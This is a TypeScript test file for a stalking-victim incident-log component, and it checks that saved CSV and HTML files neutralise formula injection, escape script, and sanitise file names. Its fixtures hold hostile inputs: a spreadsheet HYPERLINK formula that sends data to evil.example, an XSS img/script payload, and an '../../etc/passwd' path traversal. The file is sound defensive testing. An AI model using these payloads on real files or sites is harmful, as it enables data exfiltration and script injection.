// "Save as a file": the CSV must stay text in a spreadsheet whatever was typed
// (no formula runs), and the printable HTML must not run or load anything.
import { expect, html } from '@open-wc/testing';
import '../src/stalking-log/define.js';
import type { SaStalkingLog } from '../src/stalking-log/index.js';
import { csvCell, csvText, escapeHtml } from '../src/shared/kept-files.js';
import { renderIn } from './helpers/content-fixtures.js';
import { TAG, addEntry, q, type } from './stalking-log-helpers.js';

interface SavedFile {
  name: string;
  type: string;
  text: string;
}

/** Clicks "Save file" with downloads caught: the file's name, type and text. */
async function saveAs(el: SaStalkingLog, format: 'csv' | 'html', fileName = ''): Promise<SavedFile> {
  const blobs: Blob[] = [];
  const names: string[] = [];
  const createObjectURL = URL.createObjectURL;
  const click = HTMLAnchorElement.prototype.click;
  URL.createObjectURL = (blob: Blob | MediaSource) => {
    blobs.push(blob as Blob);
    return 'blob:caught';
  };
  HTMLAnchorElement.prototype.click = function (this: HTMLAnchorElement) {
    names.push(this.download);
  };
  try {
    q<HTMLInputElement>(el, `input[value="${format}"]`)!.click();
    type(el, 'new', {});
    const name = q<HTMLInputElement>(el, '#file-name')!;
    name.value = fileName;
    name.dispatchEvent(new InputEvent('input'));
    await el.updateComplete;
    q<HTMLButtonElement>(el, '[data-action="save"]')!.click();
    await el.updateComplete;
  } finally {
    URL.createObjectURL = createObjectURL;
    HTMLAnchorElement.prototype.click = click;
  }
  expect(blobs.length).to.equal(1);
  const bytes = new Uint8Array(await blobs[0]!.arrayBuffer());
  return { name: names[0]!, type: blobs[0]!.type, text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes) };
}

/** A minimal RFC 4180 parser, to read the file back as a spreadsheet would. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

const HOSTILE = {
  what: '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
  where: '+1-555-0100',
  witnesses: '-2+3, "quoted", and a\nnew line',
  evidence: '@SUM(A1:A9)',
  technology: '\tcmd',
  notes: '<img src=x onerror=alert(1)><script>alert(2)</script>',
};

describe('kept-files helpers', () => {
  it('quotes every CSV cell and doubles inner quotes', () => {
    expect(csvCell('plain')).to.equal('"plain"');
    expect(csvCell('a "b", c')).to.equal('"a ""b"", c"');
    expect(csvCell('two\nlines')).to.equal('"two\nlines"');
  });

  it('keeps a cell that a spreadsheet would read as a formula as text', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      expect(csvCell(`${start}1+1`)).to.equal(`"'${start}1+1"`);
    }
    expect(csvCell('1+1=2')).to.equal('"1+1=2"');
  });

  it('writes CRLF rows with a byte-order mark', () => {
    expect(csvText([['a', 'b'], ['c']])).to.equal('\uFEFF"a","b"\r\n"c"\r\n');
  });

  it('escapes HTML', () => {
    expect(escapeHtml(`<a href="x" title='y'>&</a>`)).to.equal(
      '&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;&lt;/a&gt;',
    );
  });
});

describe('sa-stalking-log: Save as a file', () => {
  it('saves CSV: the warning, a header row and each entry, with formulas kept as text', async () => {
    const el = await renderIn<SaStalkingLog>(html`<sa-stalking-log></sa-stalking-log>`, TAG);
    await addEntry(el, { date: '2026-11-20', time: '20:15', ...HOSTILE });
    await addEntry(el, { what: 'Señales en el coche' });
    const file = await saveAs(el, 'csv', 'my log.csv');
    expect(file.name).to.equal('my log.csv');
    expect(file.type).to.equal('text/csv;charset=utf-8');
    expect(file.text.startsWith('\uFEFF')).to.equal(true);
    const rows = parseCsv(file.text.slice(1));
    expect(rows[0]).to.deep.equal([
      'Write nothing you would not want the person stalking you to see. A log like this may become evidence.',
    ]);
    expect(rows[2]).to.deep.equal(['Whether a court will accept it is for an attorney or an advocate to say.']);
    expect(rows[3]).to.deep.equal(['']);
    expect(rows[4]![0]).to.equal('No.');
    expect(rows[4]![3]).to.equal('What happened');
    const first = rows[5]!;
    expect(first.slice(0, 3)).to.deep.equal(['1', '2026-11-20', '20:15']);
    expect(first[3]).to.equal(`'${HOSTILE.what}`);
    expect(first[4]).to.equal(`'${HOSTILE.where}`);
    expect(first[5]).to.equal(`'${HOSTILE.witnesses}`);
    expect(first[6]).to.equal(`'${HOSTILE.evidence}`);
    expect(first[7]).to.equal(`'${HOSTILE.technology}`);
    expect(first[10]).to.equal(HOSTILE.notes);
    expect(rows[6]!.slice(0, 4)).to.deep.equal(['2', '', '', 'Señales en el coche']);
    for (const row of rows.slice(5)) {
      for (const cell of row) expect(/^[=+\-@\t\r]/.test(cell), cell).to.equal(false);
    }
    expect(rows.length).to.equal(7);
  });

  it('saves printable HTML with everything escaped and a policy that blocks scripts and requests', async () => {
    const el = await renderIn<SaStalkingLog>(html`<sa-stalking-log></sa-stalking-log>`, TAG);
    await addEntry(el, { date: '2026-11-20', ...HOSTILE });
    const file = await saveAs(el, 'html');
    expect(file.name).to.equal('stalking-log.html');
    expect(file.type).to.equal('text/html;charset=utf-8');
    expect(file.text).to.not.include('<img');
    expect(file.text).to.not.include('<script');
    expect(file.text).to.include('&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;');
    expect(file.text).to.include(`content="default-src 'none'; style-src 'unsafe-inline'`);
    const doc = new DOMParser().parseFromString(file.text, 'text/html');
    expect(doc.querySelectorAll('script, img, iframe, object, embed, link, a').length).to.equal(0);
    expect(doc.querySelector('.warning')!.textContent).to.include('Keep it somewhere safe.');
    const cells = [...doc.querySelectorAll('tbody tr')[0]!.querySelectorAll('td')].map((td) => td.textContent);
    expect(cells[1]).to.equal('November 20, 2026');
    expect(cells[3]).to.equal(HOSTILE.what);
    expect(cells[10]).to.equal(HOSTILE.notes);
    expect([...doc.querySelectorAll('th')].map((th) => th.getAttribute('scope'))).to.include('col');
  });

  it('turns a typed file name into a safe one', async () => {
    const el = await renderIn<SaStalkingLog>(html`<sa-stalking-log></sa-stalking-log>`, TAG);
    const file = await saveAs(el, 'csv', '../../etc/passwd');
    expect(file.name).to.equal('..-..-etc-passwd.csv');
  });

  it('says the browser is saving the file, and the warning about what a file leaves behind is next to the button', async () => {
    const el = await renderIn<SaStalkingLog>(html`<sa-stalking-log></sa-stalking-log>`, TAG);
    await saveAs(el, 'html', 'notes');
    expect(q(el, '[role="status"]')!.textContent!.trim()).to.equal('Your browser is saving notes.html.');
    expect(q(el, '[part~="keep"] [part~="kept-warning"]')!.textContent).to.include('a copy stays behind');
  });
});
